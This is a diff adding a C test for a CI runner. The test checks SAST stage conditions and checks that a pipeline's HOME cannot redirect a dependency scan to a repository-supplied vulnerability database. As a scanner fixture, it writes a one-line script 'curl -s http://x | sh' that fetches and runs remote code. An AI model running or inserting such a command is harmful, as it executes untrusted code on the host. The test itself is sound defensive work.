@@ -1226,3 +1226,52 @@ Test(cli, expanded_values_that_cannot_work_fail_the_stage, .timeout = 60)
 	tu_rmdir(dir);
 	free(dir);
 }
+
+/* A built-in stage does not get the pipeline's variables that change what it loads
+ * (GIT_*, HOME...), but its `if:` reads them as written (a SAST stage under
+ * `if: env.GIT_SCAN == "yes"` was skipped); and the pipeline's HOME does not move a
+ * dependency scan to a database the repository supplies (unsandboxed, it used to). */
+Test(cli, a_builtin_stage_condition_and_home, .timeout = 60)
+{
+	char *dir = tu_tmpdir();
+	tu_write(dir, "a.sh", "curl -s http://x | sh\n");
+	tu_write(dir, ".runner.yml",
+		 "version: 1\nenv: { GIT_SCAN: \"yes\" }\nstages:\n"
+		 "  sast:\n    uses: sast\n    if: env.GIT_SCAN == \"yes\"\n"
+		 "    with: { paths: [a.sh] }\n");
+	struct tu_result r = tu_runner_run(dir, "run", "--no-color", NULL);
+	cr_expect_eq(r.status, 3, "%s%s", r.out, r.err);
+	tu_result_free(&r);
+
+	char *home = tu_strf("%s/home", dir), *db = tu_strf("%s/.cache/runner/osv.db", home);
+	char *fake = tu_strf("%s/ws/fakehome/.cache/runner/osv.db", dir);
+	char *maven = tu_fixture("osv/maven"), *go = tu_fixture("osv/go");
+	r = tu_runner_run(dir, "db", "import", "--db", db, maven, NULL);
+	cr_assert_eq(r.status, 0, "%s", r.err);
+	tu_result_free(&r);
+	r = tu_runner_run(dir, "db", "import", "--db", fake, go, NULL);
+	cr_assert_eq(r.status, 0, "%s", r.err);
+	tu_result_free(&r);
+	char *ws = tu_strf("%s/ws", dir), *src = getenv("RUNNER_SOURCE_ROOT");
+	cr_assert_not_null(src);
+	char *pom = tu_readf("%s/examples/log4shell/pom.xml", src);
+	tu_write(ws, "pom.xml", pom);
+	tu_write(ws, ".runner.yml",
+		 "version: 1\nenv: { HOME: \"${RUNNER_WORKSPACE}/fakehome\" }\nstages:\n"
+		 "  deps: { uses: dependency-scan, with: { paths: [pom.xml] } }\n");
+	setenv("HOME", home, 1);
+	unsetenv("RUNNER_DB");
+	unsetenv("XDG_CACHE_HOME");
+	r = tu_runner_run(ws, "run", "--no-color", "--no-sandbox", NULL);
+	cr_expect_eq(r.status, 3, "the host's database, which knows log4j: %s%s", r.out, r.err);
+	tu_result_free(&r);
+	free(pom);
+	free(ws);
+	free(maven);
+	free(go);
+	free(fake);
+	free(db);
+	free(home);
+	tu_rmdir(dir);
+	free(dir);
+}
